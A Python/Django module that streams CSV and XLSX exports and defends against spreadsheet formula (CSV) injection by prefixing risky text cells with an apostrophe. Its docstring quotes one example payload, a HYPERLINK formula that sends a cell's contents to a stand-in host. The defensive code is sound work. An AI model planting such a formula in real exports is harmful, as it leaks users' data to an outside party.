"""Spreadsheet exports (CSV and XLSX): the one way every export writes its cells.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read by Excel, LibreOffice and Sheets as a formula: a store named
``=HYPERLINK("http://x/?d="&A1,"click")`` would run in the HQ user's
spreadsheet. Following OWASP's rule for CSV injection, such cells are written
with a leading apostrophe, which spreadsheets show as text. Numbers (amounts,
counts) are not text and are written as they are.
"""

import csv
import datetime as dt
import tempfile
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.http import FileResponse, StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


XLSX_MONEY_FORMAT = "#,##0.00"
XLSX_DATE_FORMAT = "yyyy-mm-dd"


def cell_neutralise(value):
    """Return ``value``, with a text cell a spreadsheet would run as a formula made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def rows_neutralised(rows: Iterable[Iterable]) -> Iterator[list]:
    for row in rows:
        yield [cell_neutralise(value) for value in row]


class _Echo:
    """A file-like object whose ``write`` returns the line, for csv.writer to stream."""

    def write(self, value: str) -> str:
        return value


def csv_response(rows: Iterable[Iterable], *, filename: str) -> StreamingHttpResponse:
    """Stream ``rows`` as CSV (UTF-8 with BOM, for Excel) as they come."""
    writer = csv.writer(_Echo())

    def lines() -> Iterator[str]:
        yield "\ufeff"
        for row in rows_neutralised(rows):
            yield writer.writerow(row)

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def xlsx_response(rows: Iterable[Iterable], *, filename: str, sheet: str) -> FileResponse:
    """Write ``rows`` with openpyxl's write-only workbook to a temporary file and stream it.

    The first row is the header: bold and frozen, so it stays on screen while
    scrolling. Amounts (Decimal) are numbers shown with two decimals and
    thousands separators, dates are dates: a spreadsheet sums and sorts them.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(sheet)
    worksheet.freeze_panes = "A2"
    bold = Font(bold=True)

    def cell(value, *, header: bool):
        written = WriteOnlyCell(worksheet, value=value)
        if header:
            written.font = bold
        elif isinstance(value, Decimal):
            written.number_format = XLSX_MONEY_FORMAT
        elif isinstance(value, dt.date):
            written.number_format = XLSX_DATE_FORMAT
        return written

    for index, row in enumerate(rows_neutralised(rows)):
        worksheet.append([cell(value, header=index == 0) for value in row])
    # Deleted on close, which FileResponse does once the last byte is sent.
    spool = tempfile.TemporaryFile(suffix=".xlsx")  # noqa: SIM115 (FileResponse closes it)
    workbook.save(spool)
    spool.seek(0)
    return FileResponse(
        spool, as_attachment=True, filename=f"{filename}.xlsx", content_type=XLSX_CONTENT_TYPE
    )
